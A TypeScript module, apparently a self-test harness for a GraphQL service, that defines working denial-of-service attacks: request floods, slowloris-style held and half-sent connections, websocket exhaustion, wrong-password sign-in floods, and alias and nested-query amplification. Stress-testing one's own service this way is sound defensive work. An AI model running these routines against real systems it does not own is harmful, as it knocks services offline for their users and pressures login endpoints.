import { getIntrospectionQuery } from 'graphql';
import { setTimeout as delay } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { Person } from '../service/people.ts';
import { ATTACKER, clientAt, openSocket, type Sent } from './from.ts';

/** What the attacker has in the service. */
export interface Means {
  readonly attacker: Person;
  /** One token with many versions, and all tokens, by global ids. */
  readonly tokenId: string;
  readonly tokenIds: readonly string[];
  /** The attacker's other organisations. */
  readonly organizationIds: readonly string[];
}

export interface Attack {
  readonly name: string;
  readonly what: string;
  /** Goes on until its process ends. */
  run(means: Means, url: string): Promise<void>;
}

const repeat = (count: number, text: (i: number) => string): string =>
  Array.from({ length: count }, (_, i) => text(i)).join(' ');

/** Many at a time, each sent again as soon as it is answered. */
async function flood(path: string, url: string, atOnce: number, sent: (i: number) => Sent) {
  const client = clientAt(ATTACKER, atOnce);
  let i = 0;
  const one = async (): Promise<void> => {
    for (;;) {
      const answer = await client.send(`${url}${path}`, sent(i++)).catch(() => undefined);
      // A refusal that costs nothing would otherwise be asked for as fast as this machine can.
      if (answer === undefined || answer.status === 429 || answer.status === 503) await delay(20);
    }
  };
  await Promise.all(Array.from({ length: atOnce }, one));
}

const asked = (query: string, headers: Record<string, string> = {}, variables: object = {}): Sent => ({
  headers,
  body: JSON.stringify({ query, variables }),
});

/** Keeps so many connections open, each begun by this and anew when it is ended. */
async function hold(url: string, count: number, begin: string, more?: string): Promise<void> {
  const one = async (): Promise<void> => {
    for (;;) {
      const socket = await openSocket(url);
      socket.write(begin);
      if (more === undefined) socket.pause();
      const sending = more === undefined ? undefined : setInterval(() => socket.writable && socket.write(more), 5);
      const closed = new Promise((resolve) => socket.once('close', resolve));
      await closed;
      clearInterval(sending);
      await delay(50);
    }
  };
  await Promise.all(Array.from({ length: count }, one));
}

const JSON_POST = 'host: x\r\ncontent-type: application/json\r\n';
const UPGRADE =
  'host: x\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n';

/** 18 kB of one field, which validation compares with itself. */
const SAME = repeat(818, () => 'libraries{totalCount}');

async function sockets(url: string, count: number, message?: string): Promise<void> {
  const one = async (): Promise<void> => {
    for (;;) {
      const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
        localAddress: ATTACKER,
      });
      socket.on('error', () => undefined);
      socket.on('open', () => socket.send('{"type":"connection_init"}'));
      let id = 0;
      socket.on('message', () => message !== undefined && socket.send(message.replace('ID', String(id++))));
      await new Promise((resolve) => socket.once('close', resolve));
      await delay(50);
    }
  };
  await Promise.all(Array.from({ length: count }, one));
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'documents',
    what: '30 at a time of 18 kB, without an identity',
    run: (_means, url) => flood('/graphql', url, 30, () => asked(`{${SAME}}`)),
  },
  {
    name: 'documents-sockets',
    what: 'the same over 30 sockets',
    run: (_means, url) =>
      sockets(url, 30, JSON.stringify({ id: 'ID', type: 'subscribe', payload: { query: `subscription{${SAME}}` } })),
  },
  {
    name: 'introspection',
    what: '20 at a time, without an identity',
    run: (_means, url) => flood('/graphql', url, 20, () => asked(getIntrospectionQuery())),
  },
  {
    name: 'bodies',
    what: '20 bodies without an end at /api/auth',
    run: (_means, url) =>
      hold(
        url,
        20,
        `POST /api/auth/sign-in/email HTTP/1.1\r\n${JSON_POST}transfer-encoding: chunked\r\n\r\n`,
        `10000\r\n${'x'.repeat(0x10000)}\r\n`,
      ),
  },
  {
    name: 'sockets',
    what: '400 sockets that say nothing more',
    run: (_means, url) => sockets(url, 400),
  },
  {
    name: 'half-bodies',
    what: '100 bodies of which half is sent',
    run: (_means, url) =>
      hold(url, 100, `POST /graphql HTTP/1.1\r\n${JSON_POST}content-length: 100000\r\n\r\n{"query":"`),
  },
  {
    name: 'unread',
    what: '100 downloads that nobody reads, of the largest script of GraphiQL, ten each',
    async run(_means, url) {
      const page = await (await fetch(`${url}/graphiql`)).text();
      const script = /src="(\/graphiql\/static\/[^"]+\.js)"/.exec(page)?.[1] ?? '/';
      await hold(url, 100, `GET ${script} HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(10));
    },
  },
  {
    name: 'passwords',
    what: '40 wrong passwords at a time',
    run: (_means, url) =>
      flood('/api/auth/sign-in/email', url, 40, (i) => ({
        headers: { origin: url },
        body: JSON.stringify({ email: `nobody-${i}@example.org`, password: 'a wrong password' }),
      })),
  },
  {
    name: 'resets',
    what: 'upgrades that are refused, and reset by the client',
    async run(_means, url) {
      for (;;) {
        const socket = await openSocket(url);
        socket.write(`GET /elsewhere HTTP/1.1\r\n${UPGRADE}\r\n`);
        await delay(1);
        socket.resetAndDestroy();
      }
    },
  },
  {
    name: 'versions',
    what: 'versions of versions of versions of one token with 41, two at a time',
    run: ({ attacker, tokenId }, url) =>
      flood('/graphql', url, 2, () =>
        asked(
          'query ($id: ID!) { token(id: $id) { ... on Token { versions { versions { versions { version } } } } } }',
          { cookie: attacker.cookie },
          { id: tokenId },
        ),
      ),
  },
  {
    name: 'versions-twice',
    what: 'versions of versions, which the budget covers, two at a time',
    run: ({ attacker, tokenId }, url) =>
      flood('/graphql', url, 2, () =>
        asked(
          'query ($id: ID!) { token(id: $id) { ... on Token { versions { versions { version } } } } }',
          { cookie: attacker.cookie },
          { id: tokenId },
        ),
      ),
  },
  {
    name: 'aliases',
    what: '40 requests at a time of 45 aliases',
    run: ({ attacker }, url) =>
      flood('/graphql', url, 40, () =>
        asked(`{ ${repeat(45, (i) => `a${i}: tokens(first: 1) { totalCount }`)} }`, { cookie: attacker.cookie }),
      ),
  },
  {
    name: 'organizations',
    what: '60 requests at a time of one person with six organisations',
    run: ({ attacker, organizationIds }, url) =>
      flood('/graphql', url, 60, (i) =>
        asked('{ tokens(first: 50) { edges { node { name library { name tokenCount } } } totalCount } }', {
          cookie: attacker.cookie,
          'facet-organization': organizationIds[i % organizationIds.length]!,
        }),
      ),
  },
  {
    name: 'exports',
    what: 'exports of 91 tokens in 40 aliases, and in as many as are taken',
    run: ({ attacker, tokenIds }, url) =>
      flood('/graphql', url, 2, (i) =>
        asked(
          `mutation ($ids: [ID!]!) { ${repeat(i % 2 === 0 ? 40 : 10, (n) => `a${n}: exportTokens(tokenIds: $ids, format: SINGLE) { __typename }`)} }`,
          { cookie: attacker.cookie },
          { ids: tokenIds },
        ),
      ),
  },
  {
    name: 'mutations',
    what: 'libraries made in 45 aliases, and in as many as are taken, two at a time',
    run: ({ attacker }, url) =>
      flood('/graphql', url, 2, (i) =>
        asked(
          `mutation { ${repeat(i % 2 === 0 ? 45 : 10, (n) => `a${n}: createLibrary(name: "${crypto.randomUUID()}", visibility: ORGANIZATION) { __typename }`)} }`,
          { cookie: attacker.cookie },
        ),
      ),
  },
];
